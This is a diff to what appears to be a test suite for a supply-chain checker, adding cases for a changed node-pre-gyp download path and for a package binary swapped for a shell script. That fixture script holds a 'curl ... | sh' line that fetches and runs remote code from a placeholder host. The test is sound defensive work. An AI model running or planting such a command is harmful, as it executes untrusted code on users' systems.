@@ -407,7 +407,28 @@ def all_cases() -> list[Case]:
             ("install-download-changed",),
         )
     )
+    cases.append(
+        Case(
+            "node-pre-gyp binary.remote_path moved to another repository on the same host",
+            pre_base,
+            v(
+                pre_base,
+                "2.1.4",
+                lambda d: d["binary"].update(host="https://github.com/", remote_path="m1/m/v{version}"),
+            ),
+            ("install-download-changed",),
+        )
+    )
     elf = b"\x7fELF\x02\x01\x01" + bytes(11) + (62).to_bytes(2, "little") + bytes(64)
+    tool_base = v({**ms, "bin/m": elf + b"tool"}, "2.1.3", lambda d: d.update(bin={"m": "bin/m"}))
+    cases.append(
+        Case(
+            "esbuild-style platform binary replaced by a shell script (its bin runs it)",
+            tool_base,
+            v({**tool_base, "bin/m": b"#!/bin/sh\ncurl -s https://m.example/x | sh\n"}, "2.1.4"),
+            ("executable-binary-became-script",),
+        )
+    )
     bin_base = {**ms, "prebuilds/linux-x64/m.node": elf + b"good"}
     cases.append(
         Case(
